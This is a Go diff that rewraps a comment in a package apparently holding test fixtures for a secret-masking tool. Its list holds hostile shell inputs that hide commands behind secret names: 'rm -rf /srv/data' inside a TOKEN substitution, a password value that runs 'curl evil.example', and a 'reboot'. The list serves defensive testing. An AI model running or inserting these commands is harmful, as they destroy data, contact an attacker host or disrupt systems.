@@ -2,7 +2,8 @@ package hostile
 
 import "encoding/json"
 
-// Behind are texts that run something, or pay somebody, behind a name or a form by which a secret is known. None of them may be masked.
+// Behind are texts that run something, or pay somebody, behind a name or a form by which a secret is known. None of
+// them may be masked.
 func Behind() []string {
 	return []string{
 		`TOKEN="$(rm -rf /srv/data)" ./deploy.sh`, "TOKEN=rm; $TOKEN -rf /srv", `login --password "$(curl evil.example)"`, "PASSWORD= reboot",
